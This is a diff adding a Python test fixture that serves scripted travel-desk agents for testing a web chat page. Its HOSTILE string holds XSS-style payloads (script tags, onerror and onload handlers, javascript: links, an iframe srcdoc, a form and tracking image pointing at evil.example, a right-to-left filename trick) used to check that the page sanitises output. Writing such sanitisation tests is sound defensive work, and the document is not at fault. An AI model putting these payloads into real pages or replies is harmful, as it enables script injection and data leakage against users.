@@ -1,0 +1,157 @@
+"""Scripted agents that the tests of the page look at: each prompt has an answer of its own, paced as
+a model would.
+
+Run: python page_agents.py PORT [KEY …]     (serves them with the page on 127.0.0.1)
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import sys
+from collections.abc import AsyncIterator
+from typing import Any
+
+from dragoman import Agent, Memory, ThinkingPart, ToolContext, serve, tool
+from dragoman.errors import RateLimitError
+from dragoman.message import Role, ToolResultPart
+from dragoman.request import ModelRequest
+from dragoman.testing import ScriptedModel, call
+
+PACE = float(os.environ.get("PACE", "0.01"))
+"""Seconds between two words."""
+SIGNED = {"anthropic": {"signature": "c2lnbmVkLWJ5LXRoZS1zY3JpcHQ="}}
+
+ANSWER = """**Oslo stays dry**, so the seat is yours.
+
+| City | Sky | High |
+|:--|:--|--:|
+| Oslo | clear | 14 °C |
+| Bergen | rain | 9 °C |
+
+```python
+def pack(city: str) -> list[str]:
+    return ["coat"] if city == "Bergen" else []  # nothing for Oslo
+```
+
+> The [timetable](https://example.com/timetable) has all trains.
+"""
+HOSTILE = """Told by a page:
+
+<script>window.__harm = 1</script>
+<img src=x onerror="window.__harm = 2">
+<svg onload="window.__harm = 3"><a href="javascript:window.__harm = 4">here</a></svg>
+<iframe srcdoc="<script>parent.__harm = 5</script>"></iframe>
+<style>body { display: none }</style>
+<form action="https://evil.example/"><input name=key></form>
+
+[a](javascript:window.__harm=6) [b](data:text/html,<script>1</script>) [good](https://example.com/)
+![pixel](https://evil.example/p.png?secret)
+\x1b[31mred\x1b[0m \u202etxt.exe
+"""
+LONG = "\n\n".join(f"## Part {number}\n\n" + "The fjord lies still. " * 20 for number in range(60))
+
+
+@tool
+async def get_weather(context: ToolContext, city: str) -> dict[str, Any]:
+    """The weather in a city.
+
+    Args:
+        city: its name.
+    """
+    for done in range(1, 4):
+        await context.progress(done, 3, f"station {done}")
+        await asyncio.sleep(PACE * 40)
+    if city == "Atlantis":
+        raise ValueError("there is no station in Atlantis")
+    return {"city": city, "sky": "rain" if city == "Bergen" else "clear"}
+
+
+@tool(requires_approval=True, editable=True)
+async def book_train(origin: str, destination: str, seats: int = 1) -> dict[str, Any]:
+    """Books seats on a train."""
+    await asyncio.sleep(PACE * 5)
+    return {"booking": "NSB-4471", "from": origin, "to": destination, "price": 389 * seats}
+
+
+async def _words(text: str, pace: float = PACE) -> AsyncIterator[str]:
+    for word in text.split(" "):
+        yield word + " "
+        await asyncio.sleep(pace)
+
+
+async def _plan_trip(results: list[ToolResultPart], native: Any) -> AsyncIterator[Any]:
+    """Two tools at once, one that a person must allow, and the answer."""
+    names = {result.name for result in results}
+    if not results:
+        yield ThinkingPart("I need the weather of both cities before I book.", native=native)
+        async for word in _words("I'll compare the weather first."):
+            yield word
+        yield call("get_weather", city="Oslo")
+        yield call("get_weather", city="Bergen")
+    elif "book_train" not in names:
+        yield call("book_train", origin="Trondheim", destination="Oslo", seats=1)
+    else:
+        denied = any(result.denied or result.is_error for result in results)
+        async for word in _words("Nothing was booked." if denied else ANSWER):
+            yield word
+
+
+def _script(native: Any) -> Any:
+    async def answer(request: ModelRequest) -> AsyncIterator[Any]:
+        prompts = [m.text for m in request.messages if m.role is Role.USER and m.text]
+        prompt = prompts[-1].lower()
+        results = [p for p in request.messages[-1].content if isinstance(p, ToolResultPart)]
+        if "trip" in prompt:
+            async for piece in _plan_trip(results, native):
+                yield piece
+        elif "atlantis" in prompt and not results:
+            yield call("get_weather", city="Atlantis")
+        else:
+            texts = {
+                "hostile": HOSTILE,
+                "long": LONG,
+                "huge": " ".join(["0123456789abcdef" * 160] * 440),
+            }
+            text = next((text for word, text in texts.items() if word in prompt), "As you say.")
+            async for word in _words(text, 0 if "huge" in prompt else PACE):
+                yield word
+
+    def begin(request: ModelRequest) -> AsyncIterator[Any]:
+        if "limit" in request.messages[-1].text:
+            raise RateLimitError("too many requests for the model", status=429, retry_after=12.0)
+        return answer(request)
+
+    return begin
+
+
+def make_app(keys: list[str]) -> Any:
+    """The application: one agent with a memory that may be asked with three models."""
+
+    def model(name: str, native: Any = None) -> Any:
+        return ScriptedModel.like(name, _script(native), chunks=64)
+
+    store = os.environ.get("STORE", "memory:")
+    agent = Agent(
+        model("anthropic:claude-sonnet-4-6", SIGNED),
+        tools=[get_weather, book_train],
+        system="You are the travel desk.",
+        memory=Memory(store, last_messages=200),
+        display_name="Travel desk",
+    )
+    card = serve.AgentCard(
+        description="Plans trips and books trains.",
+        skills=(serve.Skill(id="trips", examples=("Plan my trip",)),),
+    )
+    policy = serve.AgentPolicy(
+        models=[model("openai-responses:gpt-5.2"), model("google:gemini-2.5-flash")]
+    )
+    auth = [serve.Key(key, name=f"key {n}") for n, key in enumerate(keys)] or None
+    return serve.app(
+        {"desk": agent}, policy=policy, cards={"desk": card}, store=store, auth=auth, page=True
+    )
+
+
+if __name__ == "__main__":
+    port, *given = sys.argv[1:]
+    serve.run_server(make_app(given), port=int(port))
